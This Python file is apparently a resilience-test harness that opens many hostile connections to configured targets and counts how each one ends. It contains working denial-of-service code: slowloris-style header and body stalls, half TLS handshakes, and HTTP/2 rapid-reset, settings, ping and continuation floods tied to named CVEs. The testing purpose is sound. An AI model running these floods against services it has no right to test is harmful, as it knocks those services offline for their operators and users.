"""Clients that mean ill, with nothing but Python: in a pod, `python3 -c SOURCE JSON`; or imported.

The JSON has `targets`, each [host, port, kind], where kind is "http" or "other"; `clients`, for each target; `seconds`;
`frames`, how many frames a flood sends a second. Each client connects, does one of the things below for some seconds,
and connects again. The number of connections and of frames is bounded by that. What is printed at the end is a JSON
object: by port, how many connections the other side has refused, has ended, or has kept until the client went.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import random
import resource
import socket
import struct
import sys
import time
from collections import Counter
from collections.abc import AsyncIterator, Callable
from typing import Any

STAY_SECONDS = 12.0
"""A client gives up on a connection after so long: longer than any deadline but the largest."""
PAUSE_SECONDS = 0.5
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HELLO = bytes.fromhex("16030102000100 01fc0303".replace(" ", "")) + b"\x5a" * 60
"""The first bytes of a ClientHello of 512, which never comes to its end."""
HEADERS = b"\x82\x86\x84\x41\x03api"
"""GET, http, /, and an authority (RFC 7541)."""


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """RFC 9113, 4.1."""
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


Said = AsyncIterator[bytes]


async def unfinished(_: float) -> Said:
    """A head that grows and never ends."""
    yield b"GET / HTTP/1.1\r\nHost: api\r\nX-A: " + b"a" * 100_000
    while True:
        await asyncio.sleep(1)
        yield b"a"


async def large(_: float) -> Said:
    """A whole head of 900 KiB."""
    yield b"GET / HTTP/1.1\r\nHost: api\r\n"
    for number in range(900):
        yield b"X-%d: " % number + b"a" * 1000 + b"\r\n"
    yield b"\r\n"


async def silent(_: float) -> Said:
    """Nothing at all."""
    while True:
        await asyncio.sleep(1)
        yield b""


async def half_tls(_: float) -> Said:
    """The beginning of a ClientHello."""
    yield HELLO
    async for each in silent(0):
        yield each


async def slow_body(_: float) -> Said:
    """A request whose body comes by the byte."""
    yield b"POST / HTTP/1.1\r\nHost: api\r\nContent-Length: 10000000\r\n\r\n"
    while True:
        await asyncio.sleep(0.5)
        yield b"x"


async def half_request(_: float) -> Said:
    """Some of a request, and then a reset; see `one`."""
    yield b"GET / HTTP/1.1\r\nHost: a"


async def garbage(_: float) -> Said:
    """Bytes that are nothing."""
    for _each in range(8):
        yield random.randbytes(4096)
        await asyncio.sleep(0.2)


async def no_line(_: float) -> Said:
    """A line that never ends."""
    for _each in range(64):
        yield b'{"door": "' + b"a" * 65536
        await asyncio.sleep(0.1)


async def bad_token(_: float) -> Said:
    """Words of somebody who knows the protocol and has no right to it."""
    yield json.dumps({"door": "0", "token": "x" * 32, "datagrams": True}).encode() + b"\n" + b"0" * 64
    async for each in silent(0):
        yield each


async def another_ssh(_: float) -> Said:
    """An SSH client that says who it is, and then nothing."""
    yield b"SSH-2.0-OpenSSH_9.2\r\n"
    async for each in silent(0):
        yield each


async def flood(frames: float, begin: bytes, burst: Callable[[int, int], bytes]) -> Said:
    """`burst(NUMBER, COUNT)` makes the next frames."""
    yield PREFACE + frame(4, 0, 0) + begin
    each, number = max(1, int(frames / 10)), 0
    while True:
        yield burst(number, each)
        number += each
        await asyncio.sleep(0.1)


def rapid_reset(frames: float) -> Said:
    """Calls that are cancelled at once (CVE-2023-44487)."""

    def burst(number: int, count: int) -> bytes:
        streams = (2 * (number + each) + 1 for each in range(count // 2))
        return b"".join(frame(1, 5, each, HEADERS) + frame(3, 0, each, b"\0\0\0\x08") for each in streams)

    return flood(frames, b"", burst)


def settings(frames: float) -> Said:
    """Settings that each want an answer (CVE-2019-9515)."""
    return flood(frames, b"", lambda _, count: frame(4, 0, 0, struct.pack(">HI", 4, 65535)) * count)


def pings(frames: float) -> Said:
    """The same of PINGs (CVE-2019-9512)."""
    return flood(frames, b"", lambda _, count: frame(6, 0, 0, b"12345678") * count)


def continuation(frames: float) -> Said:
    """A head in frames without end (CVE-2024-27983)."""
    part = frame(9, 0, 1, b"\x00\x03x-a\x7f\x81\x07" + b"a" * 1000)
    return flood(frames, frame(1, 1, 1, HEADERS), lambda _, count: part * count)


WAYS: dict[str, list[Callable[[float], Said]]] = {
    "http": [
        *(unfinished, large, silent, half_tls, slow_body, half_request, garbage),
        *(rapid_reset, settings, pings, continuation),
    ],
    "other": [silent, half_tls, half_request, garbage, no_line, bad_token, another_ssh, rapid_reset, unfinished],
}


async def one(host: str, port: int, way: Callable[[float], Said], frames: float, seconds: float) -> str:
    """One connection: "refused", "ended" by the other side, or "stayed"."""
    try:
        async with asyncio.timeout(5):
            reader, writer = await asyncio.open_connection(host, port)
    except (OSError, TimeoutError):
        return "refused"

    async def hears() -> None:
        while await reader.read(65536):
            pass

    async def says() -> None:
        async for data in way(frames):
            writer.write(data)
            await writer.drain()

    heard, said = asyncio.ensure_future(hears()), asyncio.ensure_future(says())
    try:
        done, _ = await asyncio.wait({heard, said}, timeout=seconds, return_when=asyncio.FIRST_COMPLETED)
        if heard not in done and said in done and said.exception() is None and way is not half_request:
            done, _ = await asyncio.wait({heard}, timeout=seconds)
        return "ended" if heard in done or (said in done and said.exception() is not None) else "stayed"
    finally:
        for each in (heard, said):
            each.cancel()
        await asyncio.gather(heard, said, return_exceptions=True)
        if way in (half_request, garbage) and (sock := writer.get_extra_info("socket")) is not None:
            with contextlib.suppress(OSError):  # a reset in place of an end
                sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        writer.transport.abort()


async def attack(plan: dict[str, Any]) -> dict[str, dict[str, int]]:
    """All of it; by port, how the connections ended."""
    until = time.monotonic() + plan["seconds"]
    found: dict[str, Counter[str]] = {}

    async def client(number: int, host: str, port: int, kind: str) -> None:
        await asyncio.sleep(random.random() * 2)  # not all in one moment, which no network does either
        while (left := until - time.monotonic()) > 0:
            way = WAYS[kind][number % len(WAYS[kind])]
            how = await one(host, port, way, plan.get("frames", 100), min(left, STAY_SECONDS))
            found.setdefault(str(port), Counter())[how] += 1
            await asyncio.sleep(PAUSE_SECONDS)

    await asyncio.gather(*(client(number, *target) for target in plan["targets"] for number in range(plan["clients"])))
    return {port: dict(each) for port, each in found.items()}


if __name__ == "__main__" or (sys.argv[0] == "-c" and len(sys.argv) > 1):
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    print(json.dumps(asyncio.run(attack(json.loads(sys.argv[1])))))
